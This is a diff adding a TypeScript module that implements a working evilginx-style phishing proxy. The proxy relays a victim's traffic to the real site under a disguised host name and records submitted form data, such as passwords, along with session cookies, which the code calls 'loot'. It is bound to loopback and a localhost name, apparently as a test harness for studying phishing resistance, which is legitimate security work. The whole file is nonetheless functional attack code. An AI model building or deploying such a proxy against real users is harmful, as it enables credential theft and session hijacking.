@@ -1,0 +1,118 @@
+import { createServer, type IncomingMessage, request as requestOf, type ServerResponse } from 'node:http';
+import { buffer, text } from 'node:stream/consumers';
+import { pipeline } from 'node:stream/promises';
+import { closeServer, listenOnLoopback } from './loopback.ts';
+import { Disguise } from './phishing-disguise.ts';
+import { PhishingLoot, type StolenCookie, type StolenForm } from './phishing-loot.ts';
+
+/** The name the victim sees; a secure context in Chromium although it is http, as a kit's https page would be. */
+const HOST = 'signin.localhost';
+const REWRITTEN = /^(?:text\/(?:html|css|javascript)|application\/(?:javascript|json|xhtml\+xml))\b/i;
+
+/**
+ * A phishing proxy as kits of the kind of evilginx are: the victim visits it under another name and sees the real site,
+ * since every request is relayed there and every answer back, streams included. What passes through is kept: the
+ * password on its way in, the session's cookie on its way out. It relays http, and no WebSockets.
+ *
+ * A browser finds it when it was launched with `extraHosts: [proxy.host]`.
+ */
+export class PhishingProxy {
+  /** What the victim's address bar shows, e.g. `http://signin.localhost:40123`. */
+  readonly origin: string;
+  /** The host name alone. */
+  readonly host: string;
+  readonly target: string;
+  readonly #server: ReturnType<typeof createServer>;
+  readonly #disguise: Disguise;
+  readonly #loot: PhishingLoot;
+
+  private constructor(server: ReturnType<typeof createServer>, names: { target: string; host: string; port: number }) {
+    this.#server = server;
+    this.host = names.host;
+    this.target = names.target;
+    this.origin = `http://${names.host}:${names.port}`;
+    this.#disguise = new Disguise({ target: names.target, proxy: this.origin });
+    this.#loot = new PhishingLoot(names.target);
+    server.on('request', (request, response) => {
+      this.#relay(request, response).catch((error: unknown) => {
+        if (response.headersSent) response.destroy();
+        else response.writeHead(502).end(`The target did not answer: ${error}`);
+      });
+    });
+  }
+
+  /**
+   * Listens on a free port of loopback.
+   * @param options.target the site's http origin
+   * @param options.host the name it is visited under
+   * @throws Error when the target is no http origin
+   */
+  static async start(options: { target: string; host?: string }): Promise<PhishingProxy> {
+    const { target, host = HOST } = options;
+    if (!target.startsWith('http:') || new URL(target).origin !== target) {
+      throw new Error(`Not an http origin: ${target}`);
+    }
+    const server = createServer();
+    return new PhishingProxy(server, { target, host, port: await listenOnLoopback(server) });
+  }
+
+  /** The target's cookies as they stand: whoever sends them is the victim. */
+  sessionCookies(): StolenCookie[] {
+    return this.#loot.cookies;
+  }
+
+  /** What the victim has typed, oldest first. */
+  postedForms(): readonly StolenForm[] {
+    return this.#loot.forms;
+  }
+
+  async stop(): Promise<void> {
+    await closeServer(this.#server);
+  }
+
+  /** For `await using`. */
+  [Symbol.asyncDispose](): Promise<void> {
+    return this.stop();
+  }
+
+  async #relay(request: IncomingMessage, response: ServerResponse): Promise<void> {
+    const path = this.#disguise.requestText(request.url ?? '/');
+    const answer = await this.#ask(request, path, response);
+    for (const cookie of answer.headers['set-cookie'] ?? []) this.#loot.keepCookie(cookie);
+    const headers = this.#disguise.responseHeaders(pairs(answer));
+    response.writeHead(answer.statusCode ?? 502, answer.statusMessage, headers.flat());
+    if (REWRITTEN.test(answer.headers['content-type'] ?? '')) {
+      response.end(this.#disguise.responseText(await text(answer)));
+      return;
+    }
+    // An event stream's page waits for the headers, long before the first event.
+    response.flushHeaders();
+    await pipeline(answer, response);
+  }
+
+  async #ask(request: IncomingMessage, path: string, response: ServerResponse): Promise<IncomingMessage> {
+    const body = this.#bodyForTarget(request, await buffer(request));
+    this.#loot.keepForm(path, request.headers['content-type'], body.toString());
+    const headers = this.#disguise.requestHeaders(pairs(request));
+    if (body.length > 0) headers.push(['content-length', `${body.length}`]);
+    return new Promise((resolve, reject) => {
+      const asked = requestOf(this.target + path, { method: request.method, headers: headers.flat() }, resolve);
+      asked.once('error', reject);
+      // Whoever leaves a page ends its streams; the target must hear of it.
+      response.once('close', () => asked.destroy());
+      asked.end(body);
+    });
+  }
+
+  #bodyForTarget(request: IncomingMessage, body: Buffer): Buffer {
+    const isText = /urlencoded|json|^text\//.test(request.headers['content-type'] ?? '');
+    return isText ? Buffer.from(this.#disguise.requestText(body.toString())) : body;
+  }
+}
+
+/** Headers one by one, names in small letters; several of one name stay several, as Set-Cookie has to. */
+function pairs(message: IncomingMessage): [string, string][] {
+  return Object.entries(message.headersDistinct).flatMap(([name, values]) =>
+    (values ?? []).map((value): [string, string] => [name, value]),
+  );
+}
